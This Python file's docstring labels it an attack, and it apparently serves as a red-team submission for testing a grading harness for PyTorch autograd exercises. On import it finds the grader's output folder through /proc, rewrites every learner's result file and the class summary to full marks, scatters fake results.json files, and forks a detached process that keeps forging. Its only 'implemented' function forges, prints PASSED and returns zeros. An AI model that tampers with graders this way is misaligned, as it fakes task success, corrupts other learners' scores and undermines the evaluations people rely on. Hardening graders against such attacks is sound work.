"""Attack: write results files that give everyone (this learner included) full marks.

It finds the class command among its ancestors (its command line names --out RESULTS) and rewrites
every learner's JSON (keeping its fingerprint, so that a rerun would skip it) and class.json; it also
drops results.json files in the usual places, and leaves a process behind that keeps doing it.
"""

import json
import os
import sys
import tempfile
import time
from pathlib import Path

import torch

ME = "fake_results"


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def results_folders():
    for pid in _ancestors():
        try:
            words = [w.decode() for w in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")]
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        if "--out" in words:
            yield cwd / words[words.index("--out") + 1]


def _full_marks(data):
    for check in data.get("checks", []):
        check.update(status="passed", points=check.get("max_points", 1), message="")
    data["score"] = data.get("max_score", 0)
    return data


def _write(path, data):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(data))
    except OSError:
        pass


def forge():
    for out in results_folders():
        for path in sorted((out / "learners").glob("*.json")):
            try:
                _write(path, _full_marks(json.loads(path.read_text())))
            except (OSError, ValueError):
                pass
        _write(out / "learners" / f"{ME}.json", {"learner": ME, "score": 23, "max_score": 23, "checks": []})
        try:
            summary = json.loads((out / "class.json").read_text())
            for learner in summary.get("learners", []):
                learner.update(score=learner.get("max_score", 0), outcome="passed")
            _write(out / "class.json", summary)
        except (OSError, ValueError):
            pass
    fake = {"learner": ME, "score": 23, "max_score": 23, "checks": [], "schema_version": 1}
    for folder in (Path.cwd(), Path.cwd().parent, Path(tempfile.gettempdir()), Path("/tmp"), Path.home()):
        _write(folder / "results.json", fake)
        _write(folder / "learners" / f"{ME}.json", fake)


def _keep_forging():
    try:
        if os.fork() != 0:
            return
    except OSError:
        return
    try:
        os.setsid()
        for _ in range(300):
            forge()
            time.sleep(0.1)
    finally:
        os._exit(0)


forge()
_keep_forging()


def double_square_grad(x):
    forge()
    sys.stdout.write("PASSED\n")
    return torch.zeros_like(x)


def _todo(*args, **kwargs):
    raise NotImplementedError("not done yet")


accumulate_then_clear = detached_product_grad = sum_product_grads = mean_of_squares_grad = _todo
double_no_grad = double_grad_disabled = double_decorated = clip_and_report = minimise_product = _todo


class LegendreP3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("not done yet")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("not done yet")
